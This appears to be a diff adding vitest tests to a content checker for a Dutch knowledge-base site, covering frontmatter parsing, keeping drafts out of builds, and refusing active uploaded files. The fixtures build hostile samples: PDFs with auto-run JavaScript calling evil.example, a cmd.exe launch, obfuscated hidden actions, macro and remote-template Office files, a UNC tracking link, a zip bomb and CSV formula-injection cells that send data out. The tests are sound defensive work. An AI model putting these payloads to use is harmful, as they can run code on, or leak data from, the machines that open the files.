@@ -4,13 +4,15 @@ import { execFileSync } from 'node:child_process';
 import { cpSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { afterAll, describe, expect, it } from 'vitest';
 import { checkContent } from '../../src/content-check/check-content.ts';
-import { limits } from '../../src/content-check/limits.ts';
+import { formatBytes, limits } from '../../src/content-check/limits.ts';
 import { formatProblem } from '../../src/content-check/problem.ts';
 import { servableFile } from '../../src/integrations/servable-file.ts';
 import { fixtureCopy, runNode } from './helpers/run.ts';
+import { makeZip, zerosDeflated, type ZipPart } from './helpers/zip.ts';
 
 const today = '2026-11-22';
 const frontmatter =
@@ -357,5 +359,276 @@ describe('what a build publishes (U1, U2, U3)', () => {
     expect(listing).not.toContain('sec-draft');
     expect(listing).not.toMatch(/^l/m);
     expect(listing).not.toMatch(/files\/.*\.(?:html|svg|js)$/m);
+  });
+});
+
+describe('frontmatter that reads one way only, and files that can act (issue 20: items 2 and 3)', async () => {
+  const folder = 'practices/goede-praktijk';
+  const fields = (extra: string, eol = '\n') =>
+    [
+      '---',
+      'title: Een goede praktijk',
+      ...frontmatter.split('\n').slice(1),
+      ...extra.split('\n').filter(Boolean),
+      '---',
+      '',
+      'Tekst.',
+      '',
+    ].join(eol);
+
+  /** The valid fixture with files written into one entry folder; the check's lines and records. */
+  async function checked(files: Record<string, string | Buffer>) {
+    const root = fixtureCopy('valid');
+    roots.push(root);
+    const content = join(root, 'content');
+    for (const [path, data] of Object.entries(files)) {
+      mkdirSync(join(content, path, '..'), { recursive: true });
+      writeFileSync(join(content, path), data);
+    }
+    const result = await checkContent({ root: content, today, production: true, cwd: content });
+    return { ...result, lines: result.problems.map(formatProblem) };
+  }
+  const draftNote = '# opmerking voor de redactie: concept, niet publiceren ---\nstatus: draft';
+
+  it('reads a line that ends in --- as a field, not as the end of the fields: the draft stays a draft', async () => {
+    const { lines: found, entries } = await checked({ [`${folder}/en.mdx`]: fields(draftNote) });
+    expect(found).toEqual([]);
+    expect(entries.find((entry) => entry.slug === 'goede-praktijk' && entry.lang === 'en')?.data['status']).toBe(
+      'draft',
+    );
+  });
+
+  it('reads a title that ends in ---, an empty frontmatter and CRLF line endings as YAML readers do', async () => {
+    const { lines: found, entries } = await checked({
+      [`${folder}/en.mdx`]: fields(draftNote, '\r\n'),
+      [`${folder}/uk.mdx`]: fields('').replace('title: Een goede praktijk', 'title: Wonen---'),
+      'practices/leeg/nl.mdx': '---\n---\n\nTekst.\n',
+    });
+    const data = (lang: string) =>
+      entries.find((entry) => entry.slug === 'goede-praktijk' && entry.lang === lang)?.data;
+    expect(data('en')?.['status']).toBe('draft');
+    expect(data('uk')?.['title']).toBe('Wonen---');
+    expect(found).toEqual([
+      'practices/leeg/nl.mdx: published: is required; expected a date YYYY-MM-DD',
+      'practices/leeg/nl.mdx: summary: is required; expected text',
+      'practices/leeg/nl.mdx: themes: is required; expected a list',
+      'practices/leeg/nl.mdx: title: is required; expected text',
+    ]);
+  });
+
+  it('names a frontmatter that is never closed', async () => {
+    const { lines: found } = await checked({ [`${folder}/en.mdx`]: `---\n${frontmatter}\n\nTekst.\n` });
+    expect(found).toEqual([
+      `${folder}/en.mdx:1:1: the frontmatter is not closed; end the fields with a line that holds only "---"`,
+    ]);
+  });
+
+  it('does not publish the draft whose note ends in ---: no page, no feed, no sitemap entry, no search entry', () => {
+    const root = fixtureCopy('valid', {
+      'practices/sec-fence/nl.mdx': `---\ntitle: Vertrouwelijk concept\nsummary: Dit concept is nog niet klaar en mag niet in een productiebuild verschijnen.\nthemes: [housing]\npublished: 2026-05-01\n${draftNote}\n---\n\nGEHEIM-CONCEPT-TEKST\n`,
+    });
+    roots.push(root);
+    const out = join(root, 'dist');
+    const { status, output } = runNode(['node_modules/astro/bin/astro.mjs', 'build'], {
+      KB_CONTENT_DIR: join(root, 'content'),
+      KB_OUT_DIR: out,
+      KB_CACHE_DIR: `${out}-cache`,
+    });
+    expect(output).not.toContain('content problem');
+    expect(status).toBe(0);
+    expect(existsSync(join(out, 'nl/practices/goede-praktijk/index.html'))).toBe(true);
+    // grep answers 1 when it finds nothing: the files that hold the draft's slug, title or text.
+    const leaks = execFileSync('sh', [
+      '-c',
+      'grep -rlE "sec-fence|GEHEIM-CONCEPT-TEKST|Vertrouwelijk concept" "$0" || true',
+      out,
+    ]);
+    expect(leaks.toString()).toBe('');
+  });
+
+  /** A PDF of numbered objects, as small as a test can write it (readers rebuild the missing table). */
+  const pdf = (...objects: (string | Buffer)[]) =>
+    Buffer.concat([
+      Buffer.from('%PDF-1.7\n'),
+      ...objects.flatMap((object, index) => [
+        Buffer.from(`${index + 1} 0 obj\n`),
+        Buffer.from(object),
+        Buffer.from('\nendobj\n'),
+      ]),
+      Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'),
+    ]);
+  const stream = (dictionary: string, data: Buffer) =>
+    Buffer.concat([
+      Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
+      data,
+      Buffer.from('\nendstream'),
+    ]);
+  /** Objects packed in a compressed object stream, where a text search of the file does not see them. */
+  const objectStream = (objects: Record<number, string>) => {
+    let header = '';
+    let bodies = '';
+    for (const [number, object] of Object.entries(objects)) {
+      header += `${number} ${bodies.length} `;
+      bodies += `${object}\n`;
+    }
+    const count = Object.keys(objects).length;
+    return stream(
+      `/Type /ObjStm /N ${count} /First ${header.length} /Filter /FlateDecode`,
+      deflateSync(header + bodies),
+    );
+  };
+  const page = '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>';
+  const text = stream('', Buffer.from('BT /F1 12 Tf (Zie /JavaScript en /Launch in de handleiding) Tj ET'));
+
+  const contentTypes = (main: string) =>
+    `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${
+      { word: 'wordprocessingml.document', xl: 'spreadsheetml.sheet', ppt: 'presentationml.presentation' }[
+        main.split('/')[0]!
+      ]
+    }.main+xml"/></Types>`;
+  const relationships = (...relationship: string[]) =>
+    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship.join('')}</Relationships>`;
+  const type = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
+  /** An OOXML package with its main part and the given parts. */
+  const ooxml = (main: string, parts: ZipPart[] = []) =>
+    makeZip([
+      { name: '[Content_Types].xml', data: contentTypes(main) },
+      {
+        name: '_rels/.rels',
+        data: relationships(`<Relationship Id="rId1" Type="${type('officeDocument')}" Target="${main}"/>`),
+      },
+      { name: main, data: '<?xml version="1.0" encoding="UTF-8"?><document><p>Tekst</p></document>' },
+      ...parts,
+    ]);
+  const openDocument = (
+    kind: string,
+    parts: ZipPart[] = [],
+    body = '<text:a xlink:href="https://www.vng.nl/">VNG</text:a>',
+  ) =>
+    makeZip([
+      { name: 'mimetype', data: `application/vnd.oasis.opendocument.${kind}`, store: true },
+      {
+        name: 'content.xml',
+        data: `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><text:p>${body}</text:p></office:body></office:document-content>`,
+      },
+      ...parts,
+    ]);
+  const saveAsPdf = 'save it again as PDF/A, or print it to PDF, without scripts, actions or attachments';
+  const officeAdvice =
+    'save it again from the program that made it without macros, embedded objects, controls or linked files, or save it as PDF';
+
+  const files = await checked({
+    // The three files of the review, and what ordinary documents hold.
+    [`${folder}/factuur.pdf`]: pdf(
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL("https://evil.example")) >> /Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >> >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>] >>',
+      '<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>',
+      stream('/Type /EmbeddedFile', Buffer.from('MZ')),
+    ),
+    [`${folder}/verborgen.pdf`]: pdf(
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
+      objectStream({
+        5: '<< /S /J#61vaScript /J#53 (this.exportDataObject({cName: "a"})) >>',
+        6: '<< /A#41 << /O 5 0 R >> >>',
+      }),
+    ),
+    [`${folder}/gewoon.pdf`]: pdf(
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      page,
+      text,
+      '<< /Subtype /Link /A << /S /URI /URI (https://www.vng.nl/) >> >>',
+    ),
+    [`${folder}/verwijzing.pdf`]: pdf(
+      '<< /Type /Catalog /OpenAction 2 0 R >>',
+      objectStream({ 2: '[3 0 R /FitH 800]' }),
+    ),
+    [`${folder}/macro.docx`]: ooxml('word/document.xml', [
+      { name: 'word/vbaProject.bin', data: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) },
+      {
+        name: 'word/_rels/settings.xml.rels',
+        data: relationships(
+          `<Relationship Id="rId1" Type="${type('attachedTemplate')}" Target="https://evil.example/sjabloon.dotm" TargetMode="External"/>`,
+        ),
+      },
+    ]),
+    [`${folder}/bom.docx`]: ooxml('word/document.xml', [{ name: 'word/media/image1.xml', ...zerosDeflated(1024) }]),
+    [`${folder}/plaatje.docx`]: ooxml('word/document.xml', [
+      {
+        name: 'word/_rels/document.xml.rels',
+        data: relationships(
+          `<Relationship Id="rId5" Type="${type('hyperlink')}" Target="https://www.vng.nl/" TargetMode="External"/>`,
+          `<r:Relationship xmlns:r="urn:x" Id="rId6" Type="${type('image')}" Target="\\\\evil.example\\share\\pixel.png" TargetMode="&#69;xternal"/>`,
+        ),
+      },
+    ]),
+    [`${folder}/knoppen.xlsx`]: ooxml('xl/workbook.xml', [
+      { name: 'xl/embeddings/oleObject1.bin', data: 'OLE' },
+      { name: 'xl/activeX/activeX1.xml', data: '<ax:ocx/>' },
+    ]),
+    [`${folder}/gewoon.pptx`]: ooxml('ppt/presentation.xml', [
+      {
+        name: 'ppt/slides/_rels/slide1.xml.rels',
+        data: relationships(
+          `<Relationship Id="rId2" Type="${type('hyperlink')}" Target="mailto:redactie@example.org" TargetMode="External"/>`,
+        ),
+      },
+    ]),
+    [`${folder}/macro.odt`]: openDocument('text', [
+      { name: 'Basic/Standard/Module1.xml', data: '<script:module/>' },
+      { name: 'Object 1', data: 'OLE' },
+    ]),
+    [`${folder}/plaatje.odp`]: openDocument(
+      'presentation',
+      [],
+      '<draw:frame><draw:image xlink:href="https://evil.example/pixel.gif?track=1"/></draw:frame>',
+    ),
+    [`${folder}/grafiek.ods`]: openDocument('spreadsheet', [
+      { name: 'Object 1/content.xml', data: '<office:document-content/>' },
+      { name: 'ObjectReplacements/Object 1', data: 'plaatje' },
+    ]),
+    [`${folder}/formules.csv`]:
+      'naam,link,som\r\nx,"=HYPERLINK(""https://evil.example/?d=""&A1,""klik"")",1\r\ny,"=cmd|\' /C calc\'!A0",2\r\nz,@SUM(A1:A2),3\r\n',
+    [`${folder}/puntkomma.csv`]: 'naam;bedrag\n"Huur; -1";-1.234,56\n"tekst;+cmd|x";3\n',
+    [`${folder}/bedragen.csv`]: 'post,bedrag,opmerking\nhuur,-12,-\nkorting,+3.5,"-5%"\n',
+  });
+  const about = (name: string) => files.lines.filter((line) => line.startsWith(`${folder}/${name}`));
+
+  const accepted = () => files.files.find((entry) => entry.slug === 'goede-praktijk')?.files;
+
+  it('refuses a PDF with JavaScript, an action on opening, a launch or an embedded file, also with names in #xx and objects in a compressed stream; publishes one whose opening view, links and text merely name those things', () => {
+    expect(files.lines.filter((line) => line.includes('.pdf'))).toEqual([
+      `${folder}/factuur.pdf: the PDF contains JavaScript (/JavaScript), an action when it opens (/OpenAction), an action that starts a program (/Launch), and an embedded file (/EmbeddedFile); ${saveAsPdf}`,
+      `${folder}/verborgen.pdf: the PDF contains JavaScript (/JavaScript), an action when it opens (/OpenAction), and actions on events (/AA); ${saveAsPdf}`,
+    ]);
+    expect(accepted()).toEqual(expect.arrayContaining(['gewoon.pdf', 'verwijzing.pdf', 'plan.pdf']));
+    expect(accepted()).not.toContain('factuur.pdf');
+  });
+
+  it('refuses Office and OpenDocument files with macros, embedded objects, ActiveX or linked files that open with them; publishes web and mail links and charts', () => {
+    const office = /\.(?:docx|xlsx|pptx|odt|ods|odp):/;
+    expect(files.lines.filter((line) => office.test(line) && !line.includes('bom.docx'))).toEqual([
+      `${folder}/knoppen.xlsx: the document contains an embedded object (xl/embeddings/oleObject1.bin) and an ActiveX control (xl/activeX/activeX1.xml); ${officeAdvice}`,
+      `${folder}/macro.docx: the document contains macros (word/vbaProject.bin) and a link to a file outside it that opens with it (attachedTemplate: https://evil.example/sjabloon.dotm, in word/_rels/settings.xml.rels); ${officeAdvice}`,
+      `${folder}/macro.odt: the document contains macros (Basic/Standard/Module1.xml) and an embedded object (Object 1); ${officeAdvice}`,
+      `${folder}/plaatje.docx: the document contains a link to a file outside it that opens with it (image: \\\\evil.example\\share\\pixel.png, in word/_rels/document.xml.rels); ${officeAdvice}`,
+      `${folder}/plaatje.odp: the document contains a link to a file outside it that opens with it (image: https://evil.example/pixel.gif?track=1, in content.xml); ${officeAdvice}`,
+    ]);
+    expect(accepted()).toEqual(expect.arrayContaining(['gewoon.pptx', 'grafiek.ods']));
+  });
+
+  it('refuses a 1 MB .docx that unpacks to 1 GiB from its zip directory, without unpacking it', () => {
+    expect(about('bom.docx')).toEqual([
+      `${folder}/bom.docx: the file unpacks to more than ${formatBytes(limits.zipUnpackedBytes)}; save it again from the program that made it, or as PDF`,
+    ]);
+  });
+
+  it('refuses CSV cells that a spreadsheet runs as formulas, naming the first, and keeps plain numbers', () => {
+    expect(files.lines.filter((line) => line.includes('.csv'))).toEqual([
+      `${folder}/formules.csv: the cell in row 2, column B starts with "=", which a spreadsheet runs as a formula (2 more cells do too); remove the formula, or put an apostrophe (') before it`,
+      `${folder}/puntkomma.csv: the cell in row 3, column A has a part after ";" that starts with "+", which a spreadsheet runs as a formula; remove the formula, or put an apostrophe (') before it`,
+    ]);
+    expect(accepted()).toContain('bedragen.csv');
   });
 });
